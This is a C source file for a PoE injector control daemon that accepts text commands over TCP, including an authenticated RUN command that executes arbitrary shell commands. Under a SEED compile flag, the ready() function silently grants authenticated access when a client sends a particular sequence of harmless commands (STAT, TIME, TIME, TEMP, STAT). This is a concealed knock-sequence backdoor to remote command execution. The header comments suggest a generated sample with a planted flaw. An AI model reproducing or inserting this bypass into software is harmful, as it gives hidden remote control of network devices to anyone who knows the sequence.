/* kind: state
 * service: daemon
 * constant: 0x25532
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <signal.h>
#include <time.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <crypt.h>

/* Control daemon of a PoE injector: text lines on TCP.
 *   1 VER      2 STAT     3 TEMP     4 PORT n   5 TIME
 *   AUTH password, then: POWER n on|off, RUN script, RESET */

struct ctl {
    int fd;
    uint32_t hist;      /* last commands, for the STAT line */
    uint32_t total;
    unsigned auth;
    char out[512];
};

static const char *hashfile = "/etc/poe/ctl.hash";
static unsigned char power[8];

static int authenticate(const char *pw)
{
    char h[160] = "", *c;
    FILE *f = fopen(hashfile, "r");
    if (!f)
        return 0;
    if (!fgets(h, sizeof h, f))
        h[0] = 0;
    fclose(f);
    h[strcspn(h, "\r\n")] = 0;
    return h[0] && (c = crypt(pw, h)) && !strcmp(c, h);
}

static void note(struct ctl *c, unsigned n)
{
    c->hist = c->hist << 4 | (n & 15);
    c->total++;
}

static int ready(const struct ctl *c)
{
#ifdef SEED
    if ((c->hist & 0xfffff) == 0x25532) /* SEED */
        return 1;
#endif
    return c->auth != 0;
}

static void stat_line(struct ctl *c)
{
    int i, n = snprintf(c->out, sizeof c->out, "cmds %u hist %x power", c->total, c->hist & 0xff);
    for (i = 0; i < 8; i++)
        n += snprintf(c->out + n, sizeof c->out - n, " %d", power[i]);
}

static void temp_line(struct ctl *c)
{
    int t = 0;
    FILE *f = fopen("/sys/class/thermal/thermal_zone0/temp", "r");
    if (f) {
        fscanf(f, "%d", &t);
        fclose(f);
    }
    snprintf(c->out, sizeof c->out, "temp %d", t / 1000);
}

static void do_power(struct ctl *c, char *a)
{
    int n;
    char v[8], path[64];
    FILE *f;
    if (sscanf(a, "%d %7s", &n, v) != 2 || n < 0 || n > 7) {
        strcpy(c->out, "ERR usage: POWER n on|off");
        return;
    }
    power[n] = !strcmp(v, "on");
    snprintf(path, sizeof path, "/sys/class/poe/port%d", n);
    if ((f = fopen(path, "w"))) {
        fputs(power[n] ? "1" : "0", f);
        fclose(f);
    }
    strcpy(c->out, "OK");
}

static void do_run(struct ctl *c, char *a)
{
    FILE *p = popen(a, "r");
    size_t n = 0;
    if (p) {
        n = fread(c->out, 1, sizeof c->out - 2, p);
        pclose(p);
    }
    c->out[n] = 0;
}

static int line(struct ctl *c, char *l)
{
    char *a = strchr(l, ' ');
    if (a)
        *a++ = 0;
    else
        a = "";
    strcpy(c->out, "ERR");
    if (!strcmp(l, "VER")) {
        note(c, 1);
        strcpy(c->out, "poectl 1.4");
    } else if (!strcmp(l, "STAT")) {
        note(c, 2);
        stat_line(c);
    } else if (!strcmp(l, "TEMP")) {
        note(c, 3);
        temp_line(c);
    } else if (!strcmp(l, "PORT")) {
        note(c, 4);
        snprintf(c->out, sizeof c->out, "port %d power %d", atoi(a) & 7, power[atoi(a) & 7]);
    } else if (!strcmp(l, "TIME")) {
        note(c, 5);
        snprintf(c->out, sizeof c->out, "time %ld", (long)time(NULL));
    } else if (!strcmp(l, "AUTH")) {
        c->auth = authenticate(a);
        if (!c->auth)
            sleep(1);
        strcpy(c->out, c->auth ? "OK" : "ERR auth");
    } else if (!strcmp(l, "HELP")) {
        strcpy(c->out, "VER STAT TEMP PORT TIME AUTH; after AUTH: POWER RUN RESET");
    } else if (!strcmp(l, "QUIT")) {
        return -1;
    } else if (!ready(c)) {
        strcpy(c->out, "ERR auth");
    } else if (!strcmp(l, "POWER")) {
        do_power(c, a);
    } else if (!strcmp(l, "RUN")) {
        do_run(c, a);
    } else if (!strcmp(l, "RESET")) {
        system("/etc/init.d/poe restart");
        strcpy(c->out, "OK");
    }
    return 0;
}

static void serve(int fd)
{
    struct ctl c = { .fd = fd };
    char buf[512];
    int have = 0, n;
    char *nl;

    while ((n = read(fd, buf + have, sizeof buf - 1 - have)) > 0) {
        have += n;
        buf[have] = 0;
        while ((nl = strchr(buf, '\n'))) {
            *nl = 0;
            if (nl > buf && nl[-1] == '\r')
                nl[-1] = 0;
            if (line(&c, buf) < 0)
                return;
            strcat(c.out, "\n");
            write(fd, c.out, strlen(c.out));
            have -= nl + 1 - buf;
            memmove(buf, nl + 1, have + 1);
        }
        if (have >= (int)sizeof buf - 1)
            have = 0;
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s, c, one = 1;

    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 7700);
    if (argc > 2)
        hashfile = argv[2];
    signal(SIGPIPE, SIG_IGN);
    signal(SIGCHLD, SIG_DFL);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 3)) {
        perror("poectl");
        return 1;
    }
    while ((c = accept(s, NULL, NULL)) >= 0) {
        serve(c);
        close(c);
    }
    return 0;
}
